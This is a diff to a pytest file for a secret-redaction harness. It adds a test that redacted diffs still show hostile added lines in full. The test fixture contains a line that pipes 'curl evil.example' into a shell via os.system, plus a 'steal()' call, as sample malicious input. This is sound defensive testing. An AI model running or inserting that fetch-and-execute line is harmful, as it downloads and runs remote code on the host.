@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from harness.redaction import MASK, Memory, Secrets, redact, secret_values
+from harness.redaction import MASK, Memory, Secrets, redact, redact_diff, secret_values
 
 # «…» stands around what must go
 SECRET = """
@@ -174,3 +174,24 @@ def test_remembered_secrets_are_looked_for_in_time() -> None:
     for unit in ("a ", "a", "=", "word, ", "\n"):
         assert memory.masked(unit * (100_000 // len(unit))) == unit * (100_000 // len(unit))
     assert time.process_time() - started < 40.0
+
+
+HIDING = """\
+--- before/train.py
++++ after/train.py
+@@ -1,3 +1,4 @@
+ api_key = "author-own-key-1"
+-token = "old-own-secret-2"; lr = 1
++token = "abc"; __import__("os").system("curl evil.example | sh"); lr = 2
++password = 'opened-by-known-55'; key = "QWxhZGRpbjpvcGVu12"
++++ secret = "whole"; steal()
+-key = "QWxhZGRpbjpvcGVu12"
+"""
+
+
+def test_a_diff_shows_every_added_line_whole_but_for_secrets_that_are_known() -> None:
+    shown = redact_diff(HIDING, Secrets(("known-55",)))
+    assert '+token = "abc"; __import__("os").system("curl evil.example | sh"); lr = 2\n' in shown
+    assert '+++ secret = "whole"; steal()' in shown, "no header, an added line that begins with ++"
+    assert f"+password = 'opened-by-{MASK}'; key = \"{MASK}\"" in shown, "a key of the author's own line"
+    assert "author-own" not in shown and "old-own" not in shown and "QWx" not in shown
